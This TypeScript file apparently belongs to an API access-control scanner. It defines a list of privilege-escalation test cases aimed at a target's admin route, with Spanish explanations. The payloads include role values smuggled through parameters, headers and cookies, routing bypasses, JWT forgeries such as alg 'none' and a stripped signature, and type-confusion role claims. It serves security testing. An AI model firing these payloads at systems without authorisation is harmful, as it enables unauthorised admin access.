import { judge } from '../attack.ts'
import { attack, type Draft, family, signedForAdmin } from '../drafts.ts'
import { signingInput, signWith } from '../forge.ts'
import { bearer, type Target } from '../target.ts'

/** The route that wants a role, with the token of somebody who has not got it. */
function asUser(
  title: string,
  reason: string,
  more: (target: Target) => Parameters<Target['askAdmin']>[1],
): Draft {
  return attack(title, reason, async (target) => judge(await target.askAdmin(target.token, more(target))), {
    needs: ['admin'],
  })
}

const withHeaders =
  (headers: Record<string, string>) =>
  ({ token }: Target) => ({ headers: { ...bearer(token), ...headers } })
const path = (target: Target) => target.route('admin').path
const role = (target: Target) => target.map.role

export const ROLES = family(
  'Hacerse pasar por administrador',
  6,
  'OWASP API1, API3 y API5; PortSwigger, «Access control»',
  [
    asUser('con el token de una usuaria', 'La ruta sabe quién es, y no mira qué puede.', () => ({})),
    attack(
      'sin token',
      'El rol se mira sin saber de quién es.',
      async (target) => judge(await target.send({ ...target.route('admin') })),
      { needs: ['admin'] },
    ),
    asUser('?rol=admin', 'El rol sale de la dirección.', (target) => ({
      path: `${path(target)}?${role(target)}=admin&role=admin`,
    })),
    asUser(
      '?rol=admin dos veces',
      'Un parámetro repetido se vuelve array y pasa la comparación.',
      (target) => ({ path: `${path(target)}?${role(target)}=usuario&${role(target)}=admin` }),
    ),
    asUser('?admin=true', 'Un interruptor en la dirección.', (target) => ({
      path: `${path(target)}?admin=true&isAdmin=1`,
    })),
    asUser('rol en el cuerpo', 'El rol sale de lo que envía quien pregunta.', (target) => ({
      headers: { ...bearer(target.token), 'Content-Type': 'application/json' },
      body: JSON.stringify({ [role(target)]: 'admin', role: 'admin' }),
    })),
    asUser('rol en el cuerpo, como formulario', 'El otro lector de cuerpos también se mira.', (target) => ({
      headers: { ...bearer(target.token), 'Content-Type': 'application/x-www-form-urlencoded' },
      body: `${role(target)}=admin&role=admin`,
    })),
    asUser(
      'X-Rol: admin',
      'El rol sale de un encabezado.',
      withHeaders({ 'X-Rol': 'admin', 'X-Role': 'admin' }),
    ),
    asUser(
      'X-Admin: true',
      'Un encabezado pensado para un proxy que no está.',
      withHeaders({ 'X-Admin': 'true', 'X-Is-Admin': 'true' }),
    ),
    asUser(
      'rol en una cookie',
      'El rol sale de una cookie que escribe cualquiera.',
      withHeaders({ Cookie: 'rol=admin; role=admin; admin=true' }),
    ),
    asUser('la ruta en mayúsculas', 'La comprobación del rol compara el texto de la ruta.', (target) => ({
      path: path(target).toUpperCase(),
    })),
    asUser('la ruta con / al final', 'La comprobación del rol protege una forma de dos.', (target) => ({
      path: `${path(target)}/`,
    })),
    asUser('HEAD', 'El rol solo se comprueba en GET.', () => ({ method: 'HEAD' })),
    asUser('X-Original-URL', 'El rol se comprueba en la ruta que se pidió y se sirve otra.', (target) => ({
      path: target.map.profile?.path ?? '/',
      headers: { ...bearer(target.token), 'X-Original-URL': path(target) },
      method: 'PROPFIND',
    })),
    attack(
      'el rol cambiado, con la firma de antes',
      'El rol se lee sin verificar la firma.',
      async (target) =>
        judge(
          await target.askAdmin(
            `${target.altered({ [role(target)]: 'admin' })}.${target.token.split('.')[2]}`,
          ),
        ),
      { needs: ['admin'] },
    ),
    attack(
      'el rol cambiado y alg «none»',
      'El token dice que no va firmado y el servidor le cree.',
      async (target) =>
        judge(
          await target.askAdmin(
            `${signingInput({ alg: 'none', typ: 'JWT' }, { ...target.claims, [role(target)]: 'admin' })}.`,
          ),
        ),
      { needs: ['admin'] },
    ),
    attack(
      'el rol cambiado, con otro secreto',
      'Hay firma, y basta con que la haya.',
      async (target) =>
        judge(
          await target.askAdmin(
            await signWith('otro', target.header, { ...target.claims, [role(target)]: 'admin' }),
          ),
        ),
      { needs: ['admin'] },
    ),
    attack(
      'pedir el rol al iniciar sesión',
      'El cuerpo del login se copia entero en la cuenta o en el token.',
      async (target) => {
        const answer = await target.login({
          ...target.ownCredentials,
          [role(target)]: 'admin',
          role: 'admin',
        })
        const token = target.tokenIn(answer)
        return token ? judge(await target.askAdmin(token)) : judge(answer)
      },
      { needs: ['admin'] },
    ),
    attack(
      'después de que entre un administrador',
      'El permiso se guarda en algo que comparten todas las solicitudes.',
      async (target) => {
        await target.askAdmin(target.adminToken)
        return judge(await target.askAdmin(target.token))
      },
      { needs: ['admin', 'adminAccount'] },
    ),
    signedForAdmin('rol como array', 'includes encuentra la palabra también en un array.', (name) => ({
      [name]: ['admin'],
    })),
    signedForAdmin('rol como objeto', 'Un objeto con la clave «admin» pasa por permiso.', (name) => ({
      [name]: { admin: true },
    })),
    signedForAdmin(
      'rol «Admin»',
      'Se compara sin distinguir mayúsculas, y los demás no lo hacen.',
      (name) => ({ [name]: 'Admin' }),
    ),
    signedForAdmin('rol « admin» con un espacio', 'Se recorta antes de comparar.', (name) => ({
      [name]: ' admin',
    })),
    signedForAdmin('rol «administrador»', 'Se compara solo el comienzo.', (name) => ({
      [name]: 'administrador',
    })),
    signedForAdmin('rol «usuario,admin»', 'Se busca la palabra dentro del texto.', (name) => ({
      [name]: 'usuario,admin',
    })),
    signedForAdmin('rol «superadmin»', 'La palabra está dentro de otra.', (name) => ({
      [name]: 'superadmin',
    })),
    signedForAdmin('rol verdadero', 'true == «admin» no, pero true pasa por permiso.', (name) => ({
      [name]: true,
    })),
    signedForAdmin('rol 0', 'Un índice en la lista de roles, que empieza por admin.', (name) => ({
      [name]: 0,
    })),
    signedForAdmin('rol nulo', 'Sin rol, se deja pasar.', (name) => ({ [name]: null })),
    signedForAdmin('sin rol', 'Lo que no dice nada se toma por lo más alto.', (name) => ({
      [name]: undefined,
    })),
    signedForAdmin(
      'rol «__proto__»',
      'Una tabla de permisos hecha con un objeto encuentra lo que hereda.',
      (name) => ({ [name]: '__proto__' }),
    ),
    signedForAdmin(
      'rol «toString»',
      'Preguntar con «in» encuentra los métodos que hereda todo objeto.',
      (name) => ({ [name]: 'toString' }),
    ),
    signedForAdmin(
      'otros claims: admin, roles, scope',
      'Otro programa manda en claims que este no emite.',
      (name) => ({
        [name]: 'usuario',
        role: 'admin',
        roles: ['admin'],
        admin: true,
        isAdmin: true,
        scope: 'admin',
      }),
    ),
    attack(
      'X-Rol, en un token sin rol',
      'El encabezado vale cuando el token calla.',
      async (target) => {
        const token = await target.sign({ [role(target)]: undefined })
        return judge(
          await target.askAdmin(token, {
            headers: { ...bearer(token), 'X-Rol': 'admin', 'X-Role': 'admin' },
          }),
        )
      },
      { needs: ['admin', 'signer'] },
    ),
  ],
)
